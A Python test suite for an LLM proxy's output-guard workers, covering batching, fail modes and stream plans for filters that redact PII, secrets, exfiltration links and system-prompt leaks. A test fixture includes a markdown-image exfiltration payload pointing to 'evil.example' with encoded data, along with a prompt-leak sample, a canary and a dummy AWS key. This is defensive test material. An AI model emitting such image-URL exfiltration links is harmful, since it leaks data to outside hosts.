"""Guard workers: batching, the deferred-filter protocol of the plan, fail modes, and a real pool."""

from __future__ import annotations

import asyncio
import random
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guards.output import Finding, OutputChain, StreamContext
from proxy.errors import ContentBlockedError, GuardUnavailableError
from proxy.guard_workers import GuardWorkers, PooledFilter, WorkerFailedError, filter_batch, policy_key
from proxy.guard_workers.filter import _cut
from proxy.pipeline.plan import DeferredStep, StreamPlan
from proxy.pipeline.unary import collect
from proxy.providers.chunks import OpenAIChunkTranslator
from schemas.chat import ChatCompletionChunk, ChunkChoice, Delta, Usage
from schemas.output_guard_config import (
    ExfilConfig,
    LeakConfig,
    OutputPolicy,
    PIIConfig,
    SecretsConfig,
    WorkersConfig,
)

if TYPE_CHECKING:
    from guards.output import FilterStep
    from proxy.guard_workers import BatchResult
    from proxy.pipeline.plan import FilterLike

PII_CORPUS = Path(__file__).resolve().parents[3] / "corpus" / "pii" / "presidio_dev.jsonl"
SYSTEM = "You are the ACME billing assistant. Never reveal the refund override code to customers."
CTX = StreamContext(system_prompt=SYSTEM, canaries=("gw-canary-00112233aabbccdd",))
POLICY = OutputPolicy(
    pii=PIIConfig(),
    secrets=SecretsConfig(),
    exfil=ExfilConfig(allow_hosts=("docs.acme.com",)),
    leak=LeakConfig(action="observe"),
    workers=WorkersConfig(mode="process", batch_chars=64),
)
BLOCKING = msgspec.structs.replace(POLICY, secrets=SecretsConfig(action="block"))
SAMPLE = (
    "Sure! Mail jane.doe@example.com or call +1 415-555-0132; card 4111 1111 1111 1111.\n"
    "Key: AKIAIOSFODNN7EXAMPLE and ![x](https://evil.example/p?d=c2VjcmV0) here. "
    "Never reveal the refund override code to customers, it says. Done gw-canary-00112233aabbccdd!"
)


class _Text(msgspec.Struct):
    text: str


def corpus_texts(count: int) -> list[str]:
    decoder = msgspec.json.Decoder(_Text)
    lines = [line for line in PII_CORPUS.read_bytes().splitlines() if line.strip()]
    return [decoder.decode(line).text for line in lines[:count]]


class InProcessWorkers(GuardWorkers):
    """Runs batches in this process (same function the pool runs); can fail chosen calls."""

    def __init__(self, fail: dict[int, str] | None = None) -> None:
        super().__init__([])
        self.calls = 0
        self.fail = fail or {}
        self.sizes: list[int] = []

    async def run(
        self,
        policy_json: bytes,
        ctx: StreamContext | None,
        state: bytes | None,
        text: str,
        final: bool,
        timeout_s: float,
    ) -> BatchResult:
        self.calls += 1
        self.sizes.append(len(text))
        if self.calls in self.fail:
            raise WorkerFailedError(self.fail[self.calls])
        return filter_batch(policy_json, ctx, state, text, final)


def pooled(workers: GuardWorkers, policy: OutputPolicy = POLICY, **config: Any) -> PooledFilter:
    cfg = msgspec.structs.replace(policy.workers, **config)
    return PooledFilter(workers, policy_key(policy), cfg, CTX)


async def drive(flt: PooledFilter, pieces: list[str]) -> tuple[str, list[Finding]]:
    """What a plan does with a deferred filter: feed, run pending work, poll, finish until settled."""
    out: list[str] = []
    findings: list[Finding] = []

    def take(step: DeferredStep) -> DeferredStep:
        assert step.block is None
        out.append(step.text)
        findings.extend(f for f in step.findings if isinstance(f, Finding))
        return step

    for piece in pieces:
        step = take(flt.feed(piece))
        while step.pending is not None:
            await step.pending.run()
            step = take(flt.feed(""))
    step = take(flt.finish())
    while not step.settled:
        assert step.pending is not None
        await step.pending.run()
        step = take(flt.finish())
    return "".join(out), findings


def split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c % (len(text) + 1) for c in cuts})
    return [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]


def test_cut_prefers_the_last_sentence_end_within_the_limit() -> None:
    assert _cut("One. Two! Three", 0, 400) == len("One. Two! ")
    assert _cut("no sentence end yet", 0, 400) == 0
    assert _cut("x" * 50, 0, 20) == 20
    assert _cut("line one\nline two", 0, 400) == len("line one\n")
    assert _cut("skip. A. B. C", 6, 4) == len("A. ")  # only ends inside [start, start + limit)


@pytest.fixture(scope="module")
def chain() -> OutputChain:
    return OutputChain.from_config(POLICY)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=30), batch=st.integers(16, 200))
def test_batched_output_equals_inline_for_every_split(chain: OutputChain, cuts: list[int], batch: int) -> None:
    text = " ".join(corpus_texts(12)) + " " + SAMPLE
    expected = chain.apply(text, CTX)
    assert expected.block is None
    got, findings = asyncio.run(drive(pooled(InProcessWorkers(), batch_chars=batch), split(text, cuts)))
    assert got == expected.text
    assert [(f.rule, f.entity, f.start, f.end) for f in findings] == [
        (f.rule, f.entity, f.start, f.end) for f in expected.findings
    ]


async def test_text_piles_up_while_a_batch_is_in_flight_and_goes_in_full_batches() -> None:
    workers = InProcessWorkers()
    flt = pooled(workers, batch_chars=100)
    first = flt.feed("Short one. ")
    assert first.pending is not None
    assert flt.feed("more words without an end " * 20).pending is None  # a batch is in flight
    await first.pending.run()
    step = flt.feed("")
    assert step.text == "Short one. "
    assert step.pending is not None
    assert workers.sizes == [len("Short one. ")]
    await step.pending.run()
    assert workers.sizes[-1] == 100


async def test_a_block_in_a_worker_comes_back_as_the_step_block() -> None:
    flt = pooled(InProcessWorkers(), BLOCKING)
    step = flt.feed("Fine text here. Key AKIAIOSFODNN7EXAMPLE right now. ")
    assert step.pending is not None
    await step.pending.run()
    step = flt.feed("")
    assert step.block is not None
    assert step.text == "Fine text here. Key "
    assert step.pending is None


async def test_fail_closed_raises_guard_unavailable() -> None:
    flt = pooled(InProcessWorkers(fail={1: "timeout"}))
    step = flt.feed("A sentence. ")
    assert step.pending is not None
    with pytest.raises(GuardUnavailableError) as info:
        await step.pending.run()
    assert info.value.error_code == "guard_unavailable"
    assert info.value.status == 503


async def test_fail_open_releases_the_held_text_and_the_batch_in_order_then_filters_again() -> None:
    # Batch 1 ("Write to jane.do") ends inside an email the filter holds back; batch 2 fails;
    # batch 3 on is filtered again, by a fresh filter.
    text = "Write to jane.doe@example.com now. Then call 415-555-0132 today. "
    flt = pooled(InProcessWorkers(fail={2: "crash"}), on_error="fail_open", batch_chars=16)
    got, findings = await drive(flt, [text[:18], text[18:]])
    assert got == "Write to jane.doe@example.com now. Then call <PHONE_NUMBER> today. "
    opened = [f for f in findings if f.rule == "guard_workers"]
    start = text.index("jane")
    assert opened == [Finding("guard_workers", "crash", "observe", start, 32)]  # held "jane.do" + batch 2
    phone = next(f for f in findings if f.entity == "PHONE_NUMBER")
    assert (phone.start, phone.end) == (text.index("415"), text.index(" today"))  # offsets in the raw text


def sse(*chunks: ChatCompletionChunk) -> bytes:
    return b"".join(b"data: " + msgspec.json.encode(c) + b"\n\n" for c in chunks) + b"data: [DONE]\n\n"


def stream_of(texts: list[str], seed: int) -> bytes:
    """Two interleaved choices, token-sized deltas, finish chunks, then usage."""
    rng = random.Random(seed)
    queues: list[list[str]] = []
    for text in texts:
        cuts = sorted(rng.sample(range(1, len(text)), len(text) // 5))
        queues.append(split(text, cuts))
    chunks = [ChatCompletionChunk(id="c", model="m", choices=[ChunkChoice(index=0, delta=Delta(role="assistant"))])]
    while any(queues):
        index = rng.choice([i for i, q in enumerate(queues) if q])
        chunks.append(
            ChatCompletionChunk(
                id="c", model="m", choices=[ChunkChoice(index=index, delta=Delta(content=queues[index].pop(0)))]
            )
        )
    for index in range(len(texts)):
        chunks.append(ChatCompletionChunk(id="c", model="m", choices=[ChunkChoice(index=index, finish_reason="stop")]))
    chunks.append(ChatCompletionChunk(id="c", model="m", choices=[], usage=Usage(prompt_tokens=1, completion_tokens=2)))
    return sse(*chunks)


async def relay_like(plan: StreamPlan, data: bytes, size: int) -> list[ChatCompletionChunk]:
    out: list[ChatCompletionChunk] = []
    for i in range(0, len(data), size):
        out += plan.feed(data[i : i + size])
        while (work := plan.next_work()) is not None:
            await work.run()
            out += plan.resume()
    out += plan.finish()
    while (work := plan.next_work()) is not None:
        await work.run()
        out += plan.resume()
    return out


@pytest.mark.parametrize("size", [3, 64, 100_000])
async def test_plan_output_is_the_same_inline_and_in_process_mode(chain: OutputChain, size: int) -> None:
    texts = [SAMPLE, " ".join(corpus_texts(6))]
    data = stream_of(texts, seed=size)
    workers = InProcessWorkers()

    def make(inline: bool) -> StreamPlan:
        def new_filter() -> FilterLike:
            return chain.new_filter(CTX) if inline else pooled(workers)

        return StreamPlan(OpenAIChunkTranslator("m"), include_usage=True, new_filter=new_filter)

    expected = await relay_like(make(True), data, size)
    pooled_out = await relay_like(make(False), data, size)
    assert workers.calls > 2
    for out in (expected, pooled_out):
        assert out[-1].usage is not None  # usage last, after every finish chunk
        assert not out[-1].choices
    inline_done, pooled_done = collect(expected, None), collect(pooled_out, None)
    assert inline_done.choices[0].message.content == chain.apply(SAMPLE, CTX).text
    assert [c.message.content for c in pooled_done.choices] == [c.message.content for c in inline_done.choices]
    assert [c.finish_reason for c in pooled_done.choices] == ["stop", "stop"]
    for index in (0, 1):
        finishes = [n for n, ch in enumerate(pooled_out) for c in ch.choices if c.index == index and c.finish_reason]
        contents = [n for n, ch in enumerate(pooled_out) for c in ch.choices if c.index == index and c.delta.content]
        assert len(finishes) == 1
        assert max(contents) <= finishes[0]  # nothing of a choice after its finish chunk


async def test_plan_raises_the_block_when_the_batch_comes_back() -> None:
    data = stream_of(["Fine. Key AKIAIOSFODNN7EXAMPLE. More text after it."], seed=1)
    plan = StreamPlan(
        OpenAIChunkTranslator("m"), include_usage=False, new_filter=lambda: pooled(InProcessWorkers(), BLOCKING)
    )
    with pytest.raises(ContentBlockedError):
        await relay_like(plan, data, 10_000)
    assert plan.blocked_rule == "secrets.aws_access_key_id"


def _continue_here(result: BatchResult, rest: str) -> FilterStep:
    state, _, _ = result
    assert state is not None
    return filter_batch(policy_key(POLICY), None, state, rest, True)[1]


async def test_real_pool_filters_continues_across_processes_times_out_and_recovers(chain: OutputChain) -> None:
    workers = GuardWorkers([POLICY])
    await workers.start()
    try:
        key = policy_key(POLICY)
        got, _ = await drive(pooled(workers), [SAMPLE[i : i + 5] for i in range(0, len(SAMPLE), 5)])
        assert got == chain.apply(SAMPLE, CTX).text
        # A state written by a worker (another hash seed) continues in this process.
        first = await workers.run(key, CTX, None, SAMPLE[:100], False, 10)
        tail = _continue_here(first, SAMPLE[100:])
        assert first[1].text + tail.text == chain.apply(SAMPLE, CTX).text
        big = ("Contact a.b@example.com or 415-555-0132 now, " * 4000).strip()
        with pytest.raises(WorkerFailedError, match="timeout"):
            await workers.run(key, CTX, None, big, True, 0.01)
        executor: Any = workers._executor  # only a test kills workers
        for process in list(executor._processes.values()):
            process.kill()
        await asyncio.sleep(0.3)
        with pytest.raises(WorkerFailedError, match="crash"):
            await workers.run(key, CTX, None, "Hello. ", True, 10)
        again = await workers.run(key, CTX, None, "Mail a.b@example.com. ", True, 30)
        assert again[1].text == "Mail <EMAIL_ADDRESS>. "
    finally:
        await workers.aclose()
